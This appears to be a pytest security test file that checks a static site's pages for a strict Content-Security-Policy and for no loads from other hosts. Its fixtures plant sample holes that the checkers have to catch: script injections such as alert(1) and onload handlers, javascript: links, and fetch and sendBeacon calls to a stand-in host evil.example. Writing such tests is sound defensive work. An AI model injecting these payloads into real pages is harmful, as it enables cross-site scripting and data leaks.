"""Every page of the built sites loads, runs and sends only what is of the site, and its policy says so."""

from __future__ import annotations

import re

import pytest

from tests.conftest import Build
from tests.security.files import elsewhere, html
from tests.security.pages import faults, policy_of

SHELL = (
    "default-src 'none'; base-uri 'none'; form-action 'none'; script-src 'self' 'wasm-unsafe-eval'; "
    "style-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'self'"
)


@pytest.mark.parametrize("name", ["real_build", "exampleshire_build"])
def test_no_page_lets_in_what_is_not_of_the_site(name: str, request: pytest.FixtureRequest) -> None:
    site = request.getfixturevalue(name).site
    found = {place: list(faults(text)) for place, text in html(site)}
    assert {place: wrong for place, wrong in found.items() if wrong} == {}


@pytest.mark.parametrize("name", ["real_build", "exampleshire_build"])
def test_no_script_sheet_or_drawing_fetches_from_elsewhere(name: str, request: pytest.FixtureRequest) -> None:
    assert list(elsewhere(request.getfixturevalue(name).site)) == []


@pytest.mark.parametrize("address", ["", "help", "explore", "documents"])
def test_a_page_to_read_has_the_narrow_policy(address: str, real_build: Build) -> None:
    assert policy_of(real_build.page(address)) == SHELL


def test_a_page_with_a_chart_to_explore_may_do_two_things_more(real_build: Build) -> None:
    wider = policy_of(real_build.page("indicators/deliberate-fires"))
    assert (
        wider.replace(" 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='", "").replace(" blob:", "")
        == SHELL
    )


PAGE = f"""<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="{SHELL}">
<link rel="canonical" href="https://portal.example/"><link rel="stylesheet" href="a.css">
<script src="../a.js"></script></head><body><dialog class="search"></dialog></body></html>"""

SENTENCES = {
    "load": "a load from elsewhere: ",
    "attribute": "an attribute that runs or styles: ",
    "element": "an element that leads the page elsewhere: ",
    "lets in": "its policy lets in ",
    "lacks": "its policy has no ",
    "link": "a link that is no address: ",
    "script": "a script in the page: ",
}


def test_a_sound_page_passes() -> None:
    assert list(faults(PAGE)) == []


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("</body>", "<script>alert(1)</script></body>", "script: alert(1)"),
        ("</body>", '<img src="https://e.example/i"></body>', "load: https://e.example/i"),
        ("</body>", '<img src="//e.example/i"></body>', "load: //e.example/i"),
        ("</body>", '<img src=a.png srcset="a.png 1x, //e.example/b 2x"></body>', "load: //e.example/b"),
        ("../a.js", "https://evil.example/a.js", "load: https://evil.example/a.js"),
        ('rel="canonical"', 'rel="preconnect"', "load: https://portal.example/"),
        ("</body>", "<svg><use href='https://e.example/#a'/></svg></body>", "load: https://e.example/#a"),
        ("<body>", "<body onload=alert(1)>", "attribute: <body onload="),
        ("<body>", '<body class="a"onload=alert(1)>', 'attribute: <body class="a"onload='),
        ("<body>", '<body style="color:red">', "attribute: <body style="),
        ("</body>", "<a href=' JavaScript:alert(1)'>a</a></body>", "link:  JavaScript:alert(1)"),
        ("</body>", "<iframe src='a.html'></iframe></body>", "element: iframe"),
        ("</body>", "<form action='https://evil.example/'></form></body>", "element: form"),
        ("</head>", "<base href='/elsewhere/'></head>", "element: base"),
        ("</head>", "<meta http-equiv=refresh content='0; url=//evil.example/'></head>", "element: meta"),
        ("style-src 'self'", "style-src 'self' 'unsafe-inline'", "lets in: style-src 'unsafe-inline'"),
        ("script-src 'self'", "script-src 'self' 'unsafe-eval'", "lets in: script-src 'unsafe-eval'"),
        ("img-src 'self'", "img-src *", "lets in: img-src *"),
        ("img-src 'self'", "img-src blob:", "lets in: img-src blob:"),
        (
            "connect-src 'self'",
            "connect-src 'self' https://evil.example",
            "lets in: connect-src https://evil.example",
        ),
        ('<dialog class="search"></dialog>', "", "lets in: script-src 'wasm-unsafe-eval'"),
        ("base-uri 'none'; ", "", "lacks: base-uri"),
        ("<head>", "<head><script src='early.js'></script>", "lacks: default-src"),
    ],
)
def test_a_planted_hole_is_found(old: str, new: str, said: str) -> None:
    assert old in PAGE
    kind, _, what = said.partition(": ")
    assert f"{SENTENCES[kind]}{what}" in list(faults(PAGE.replace(old, new, 1)))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.css", "@import url(https://evil.example/a.css);"),
        ("a.css", "a { background: url('//evil.example/a.png') }"),
        ("a.js", 'fetch("https://evil.example/")'),
        ("a.js", "import('//evil.example/a.js')"),
        ("a.js", 'import a from "https://evil.example/a.js"'),
        ("a.js", "new Worker(`https://evil.example/a.js`)"),
        ("a.js", 'image.src = "https://evil.example/a.gif"'),
        ("a.js", 'navigator.sendBeacon("https://evil.example/")'),
        ("a.svg", '<svg><image href="https://evil.example/a.png"/></svg>'),
        ("a.svg", "<svg><script>alert(1)</script></svg>"),
    ],
)
def test_a_planted_fetch_is_found(name: str, text: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    site = tmp_path_factory.mktemp("site")
    (site / name).write_text(text, encoding="utf-8")
    assert [found.partition(": ")[0] for found in elsewhere(site)] == [name]


def test_what_is_said_of_another_host_is_no_fetch(tmp_path_factory: pytest.TempPathFactory) -> None:
    site = tmp_path_factory.mktemp("site")
    (site / "a.js").write_text(
        'const svg = "http://www.w3.org/2000/svg"; // https://portal.example/', "utf-8"
    )
    assert list(elsewhere(site)) == []


def test_every_kind_of_page_is_among_those_looked_at(real_build: Build) -> None:
    kinds = r"(?:[a-z]{2}/)?(?:404\.html|embed/.+|explore/index\.html|printed/index\.html|index\.html)"
    looked = {
        re.sub(r"^[a-z]{2}/", "", place).split("/")[0]
        for place, _ in html(real_build.site)
        if re.fullmatch(kinds, place)
    }
    assert looked == {"404.html", "embed", "explore", "printed", "index.html"}
